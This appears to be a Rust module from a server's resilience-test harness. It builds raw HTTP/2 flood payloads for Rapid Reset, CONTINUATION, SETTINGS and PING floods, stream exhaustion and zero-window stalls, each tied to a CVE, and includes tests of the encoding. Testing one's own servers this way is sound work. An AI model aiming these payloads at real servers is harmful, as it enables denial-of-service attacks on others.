//! Frames of HTTP/2 (RFC 9113), as an attacker sends them.

/// What every client begins with, and that it takes much of each response.
const START: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

const INITIAL_WINDOW_SIZE: u16 = 4;
const WINDOW_BYTES: u32 = 1 << 20;

/// The code of a reset by a client that changed its mind.
const CANCEL: u32 = 8;

/// How many frames of a flood one connection sends: about as many as take a second.
const FRAMES: u32 = 10_000;
const REQUESTS: u32 = 2_000;
const CONTINUATIONS: u32 = 1_000;

/// A client's requests, with these headers beside their paths.
pub(super) struct Client<'a> {
    pub(super) authority: &'a str,
    pub(super) token: Option<&'a str>,
}

impl Client<'_> {
    /// Requests that are reset at once (CVE-2023-44487).
    pub(super) fn rapid_reset(&self) -> Vec<u8> {
        let mut bytes = start(WINDOW_BYTES);
        for stream in streams(REQUESTS) {
            bytes.extend(self.get(stream, "/"));
            bytes.extend(frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes()));
        }
        bytes
    }

    /// More requests than a connection may have streams.
    pub(super) fn many_streams(&self) -> Vec<u8> {
        let mut bytes = start(WINDOW_BYTES);
        for (number, stream) in streams(REQUESTS).enumerate() {
            let path = ["/", "/api/openapi.json", "/api/v1/series"][number % 3];
            bytes.extend(self.get(stream, path));
        }
        bytes
    }

    /// Headers that do not end (CVE-2024-27316).
    pub(super) fn continuations(&self) -> Vec<u8> {
        let mut bytes = start(WINDOW_BYTES);
        bytes.extend(frame(HEADERS, END_STREAM, 1, &self.headers("/")));
        let piece = header("x-flood", &"x".repeat(8_000));
        for _ in 0..CONTINUATIONS {
            bytes.extend(frame(CONTINUATION, 0, 1, &piece));
        }
        bytes
    }

    /// A large response, of which it takes nothing.
    pub(super) fn no_window(&self) -> Vec<u8> {
        let setting = [&INITIAL_WINDOW_SIZE.to_be_bytes()[..], &0_u32.to_be_bytes()].concat();
        let settings = frame(SETTINGS, 0, 0, &setting);
        [START, &settings, &self.get(1, "/api/openapi.json")].concat()
    }

    fn get(&self, stream: u32, path: &str) -> Vec<u8> {
        let flags = END_HEADERS | END_STREAM;
        frame(HEADERS, flags, stream, &self.headers(path))
    }

    fn headers(&self, path: &str) -> Vec<u8> {
        let fields = [
            (":method", "GET"),
            (":scheme", "https"),
            (":authority", self.authority),
            (":path", path),
        ];
        let mut headers = fields.map(|(name, value)| header(name, value)).concat();
        if let Some(token) = self.token {
            headers.extend(header("authorization", &["Bearer ", token].concat()));
        }
        headers
    }
}

/// Settings, each of which is to be acknowledged (CVE-2019-9515).
pub(super) fn settings() -> Vec<u8> {
    let one = frame(SETTINGS, 0, 0, &[]);
    [start(WINDOW_BYTES), one.repeat(FRAMES as usize)].concat()
}

/// Pings, each of which is to be answered (CVE-2019-9512).
pub(super) fn pings() -> Vec<u8> {
    let one = frame(PING, 0, 0, &[0; 8]);
    [start(WINDOW_BYTES), one.repeat(FRAMES as usize)].concat()
}

fn start(window_bytes: u32) -> Vec<u8> {
    let window = window_bytes.to_be_bytes();
    let setting = [&INITIAL_WINDOW_SIZE.to_be_bytes()[..], &window].concat();
    [
        START,
        &frame(SETTINGS, 0, 0, &setting),
        &frame(WINDOW_UPDATE, 0, 0, &window),
    ]
    .concat()
}

/// Streams of a client have odd numbers.
fn streams(count: u32) -> impl Iterator<Item = u32> {
    (0..count).map(|number| 2 * number + 1)
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A header, neither indexed nor compressed (RFC 7541, section 6.2.2).
fn header(name: &str, value: &str) -> Vec<u8> {
    let mut field = vec![0];
    for text in [name, value] {
        field.extend(length(text.len()));
        field.extend(text.as_bytes());
    }
    field
}

/// RFC 7541, section 5.1, with a prefix of seven bits.
fn length(value: usize) -> Vec<u8> {
    const PREFIX: usize = 127;
    if value < PREFIX {
        return vec![value as u8];
    }
    let (mut encoded, mut rest) = (vec![PREFIX as u8], value - PREFIX);
    while rest >= 128 {
        encoded.push(rest as u8 | 128);
        rest >>= 7;
    }
    encoded.push(rest as u8);
    encoded
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_and_lengths_are_those_of_the_specifications() {
        assert_eq!(
            frame(PING, 1, 3, &[7; 8]),
            [&[0, 0, 8, 6, 1, 0, 0, 0, 3][..], &[7; 8]].concat()
        );
        assert_eq!(length(126), [126]);
        assert_eq!(length(127), [127, 0]);
        // RFC 7541, appendix C.1.2, with a prefix of seven bits instead of five.
        assert_eq!(length(1_337), [127, 0xBA, 0x09]);
        assert_eq!(header("a", "b"), [0, 1, b'a', 1, b'b']);
    }

    #[test]
    fn a_flood_is_one_of_whole_frames() {
        let client = Client {
            authority: "localhost:1",
            token: Some("x"),
        };
        for bytes in [
            client.rapid_reset(),
            client.many_streams(),
            client.continuations(),
            client.no_window(),
            settings(),
            pings(),
        ] {
            let mut rest = bytes.strip_prefix(START).expect("the start");
            while let Some((head, after)) = rest.split_at_checked(9) {
                let length = usize::from(head[1]) << 8 | usize::from(head[2]);
                assert_eq!(head[0], 0, "none is larger than 16 KiB");
                rest = &after[length..];
            }
            assert_eq!(rest, b"");
        }
    }
}
